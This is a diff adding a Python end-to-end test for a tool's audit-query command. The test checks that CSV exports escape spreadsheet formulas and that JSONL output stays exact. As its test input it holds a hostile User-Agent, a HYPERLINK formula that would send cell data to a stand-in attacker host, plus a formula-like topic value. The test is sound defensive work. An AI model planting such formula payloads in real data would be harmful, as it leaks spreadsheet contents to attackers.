@@ -1,6 +1,7 @@
 """The wsgate command: check-config, token and listen, as a newcomer uses them."""
 
 import asyncio
+import csv
 import io
 import json
 import subprocess
@@ -119,3 +120,29 @@ async def test_listen_since_resumes(make_server):
     assert replayed["event_id"] == missed["event_ids"][0]
     await server.gateway.shutdown()
     assert await asyncio.wait_for(task, 10) == 0
+
+
+@pytest.mark.gen_test(timeout=60)
+async def test_audit_query_of_a_hostile_client_csv_safe_and_jsonl_exact(make_server, tmp_path):
+    # The review's finding, end to end: a browser's User-Agent that a spreadsheet runs.
+    hostile_ua = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    call = f"customer_id:{CUSTOMER}:call"
+    server = await make_server()
+    client = await server.connect("admin-token", headers={"User-Agent": hostile_ua})
+    assert (await client.subscribe(call, "-1+2"))["rejected"][0]["code"] == "invalid_topic"
+    config = tmp_path / "audit.toml"
+    config.write_text(f'[audit]\nurl = "{server.config.audit.url}"\n')
+    result = await asyncio.to_thread(run, "audit", "query", "--config", str(config),
+                                     "--format", "csv")
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
+    assert [(r["topic"], r["outcome"], r["code"]) for r in rows] == [
+        (call, "accepted", ""), ("'-1+2", "rejected", "invalid_topic")]
+    assert {r["user_agent"] for r in rows} == {"'" + hostile_ua}
+    result = await asyncio.to_thread(run, "audit", "query", "--config", str(config),
+                                     "--format", "jsonl")
+    assert result.returncode == 0, result.stderr
+    lines = [json.loads(line) for line in result.stdout.splitlines()]
+    assert [(r["topic"], r["outcome"], r["code"]) for r in lines] == [
+        (call, "accepted", None), ("-1+2", "rejected", "invalid_topic")]
+    assert {r["user_agent"] for r in lines} == {hostile_ua}
